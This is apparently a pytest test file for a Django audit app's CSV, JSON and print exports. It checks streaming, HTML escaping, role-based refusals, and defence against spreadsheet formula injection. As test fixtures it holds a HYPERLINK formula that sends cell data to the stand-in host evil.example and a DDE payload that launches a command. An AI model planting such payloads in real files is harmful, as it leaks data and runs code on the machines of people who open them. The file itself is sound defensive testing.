"""Exports: CSV/JSON/print of timelines, searches and outside decisions; streaming; CSV injection; permissions."""

from __future__ import annotations

import csv
import io
import json

import pytest
from django.http import StreamingHttpResponse
from django.test import Client
from django.urls import reverse

from registry_app.audit.exports import safe_cell
from registry_app.audit.log import audit_append
from registry_app.models import ModelPackage
from tests.audit.builders import at, cloudtrail, deployment, observe, status_call
from tests.audit.conftest import client_for, make_user

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def _body(response: StreamingHttpResponse) -> str:
    assert isinstance(response, StreamingHttpResponse)
    return b"".join(response.streaming_content).decode()


@pytest.fixture
def history(package: ModelPackage) -> ModelPackage:
    observe(package, at(1), {"approval_status": ["PendingManualApproval", "Approved"]})
    cloudtrail("UpdateModelPackage", at(2), actor="+cmd|' /C calc'!A0", package=package,
               request={"modelApprovalStatus": "Approved", "approvalDescription": EVIL})  # fmt: skip
    status_call(package, "Rejected", at(3), actor="@carol")
    audit_append("signoff.recorded", actor="-dave", via="web", package=package, message="<b>bold</b>")
    deployment("credit-prod", package, at(4))
    return package


def test_safe_cell() -> None:
    assert safe_cell("=1+1") == "'=1+1"
    assert safe_cell("+1") == "'+1"
    assert safe_cell("-1") == "'-1"
    assert safe_cell("@SUM(A1)") == "'@SUM(A1)"
    assert safe_cell("\tx") == "'\tx"
    assert safe_cell("plain") == "plain"
    assert safe_cell(None) == ""
    assert safe_cell({"a": "=x"}) == '{"a": "=x"}'


def test_timeline_csv_is_streamed_and_injection_safe(history: ModelPackage, compliance_client: Client) -> None:
    url = reverse("registry:package_audit", args=[history.group.name, history.version])
    response = compliance_client.get(url, {"format": "csv"})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment;" in response["Content-Disposition"]
    rows = list(csv.DictReader(io.StringIO(_body(response))))
    assert [r["kind"] for r in rows] == ["audit", "deployment", "cloudtrail", "cloudtrail", "observation"]
    actors = {r["actor"] for r in rows}
    assert "'+cmd|' /C calc'!A0" in actors and "'@carol" in actors and "'-dave" in actors
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@")), value
    assert all(row["evidence_id"] for row in rows)
    raw = json.loads(rows[2]["raw"]) if rows[2]["raw"].startswith("{") else json.loads(rows[2]["raw"][1:])
    assert raw["eventName"] == "UpdateModelPackage"


def test_timeline_json_export(history: ModelPackage, compliance_client: Client) -> None:
    url = reverse("registry:package_audit", args=[history.group.name, history.version])
    data = json.loads(_body(compliance_client.get(url, {"format": "json", "kind": "cloudtrail"})))
    assert data["meta"]["kinds"] == "cloudtrail"
    assert data["meta"]["exported_by"] == "connie"
    assert [item["title"] for item in data["items"]] == ["UpdateModelPackage", "UpdateModelPackage"]
    assert data["items"][1]["raw"]["requestParameters"]["approvalDescription"] == EVIL  # JSON keeps data as data
    assert data["items"][0]["evidence_id"].startswith("cloudtrail:")


def test_print_view_escapes(history: ModelPackage, staff_client: Client) -> None:
    url = reverse("registry:package_audit", args=[history.group.name, history.version])
    response = staff_client.get(url, {"format": "print"})
    text = _body(response)
    assert response["Content-Type"].startswith("text/html")
    assert "<b>bold</b>" not in text and "&lt;b&gt;bold&lt;/b&gt;" in text
    assert 'class="print-view"' in text and "5 rows." in text
    assert "<script" not in text and "style=" not in text


def test_search_and_bypass_exports(history: ModelPackage, compliance_client: Client) -> None:
    search = _body(compliance_client.get(reverse("registry:audit_search"), {"actor": "@carol", "format": "csv"}))
    rows = list(csv.DictReader(io.StringIO(search)))
    assert len(rows) == 1 and rows[0]["actor"] == "'@carol"
    data = json.loads(_body(compliance_client.get(reverse("registry:audit_search"), {"format": "json"})))
    assert {item["kind"] for item in data["items"]} == {"cloudtrail", "audit"}
    bypasses = _body(compliance_client.get(reverse("registry:audit_bypasses"), {"format": "csv"}))
    assert bypasses.splitlines()[0].startswith("group,version,package_arn")


def test_viewers_get_403_on_every_export(history: ModelPackage, viewer_client: Client) -> None:
    urls = [
        reverse("registry:package_audit", args=[history.group.name, history.version]),
        reverse("registry:group_audit", args=[history.group.name]),
        reverse("registry:endpoint_detail", args=["credit-prod"]),
        reverse("registry:audit_search"),
        reverse("registry:audit_bypasses"),
    ]
    for url in urls:
        assert viewer_client.get(url).status_code == 200, url
        for fmt in ("csv", "json", "print"):
            assert viewer_client.get(url, {"format": fmt}).status_code == 403, (url, fmt)
    assert viewer_client.get(reverse("registry:package_audit_pack", args=[history.group.name, 3])).status_code == 403
    assert viewer_client.get(reverse("registry:audit_period_pack")).status_code == 403
    page = viewer_client.get(urls[0]).content.decode()
    assert "format=csv" not in page and "Auditor pack" not in page


def test_other_roles_are_refused_and_anonymous_sent_to_login(history: ModelPackage, client: Client) -> None:
    reviewer = client_for(make_user("lena", "ml-lead"))
    url = reverse("registry:audit_search")
    assert reviewer.get(url, {"format": "csv"}).status_code == 403
    for target in (url, reverse("registry:as_of"), reverse("registry:audit_period_pack")):
        response = client.get(target)
        assert response.status_code == 302 and response["Location"].startswith("/accounts/login/")


def test_unknown_format_is_400(history: ModelPackage, compliance_client: Client) -> None:
    url = reverse("registry:package_audit", args=[history.group.name, history.version])
    assert compliance_client.get(url, {"format": "xlsx"}).status_code == 400
